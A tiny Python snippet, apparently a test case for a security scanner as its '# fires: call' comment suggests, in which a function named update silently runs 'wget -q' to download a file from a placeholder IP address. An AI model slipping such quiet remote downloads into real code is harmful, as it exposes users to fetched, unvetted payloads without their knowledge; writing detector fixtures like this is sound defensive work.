import os

def update():
    os.system("wget -q http://192.0.2.7/a")  # fires: call
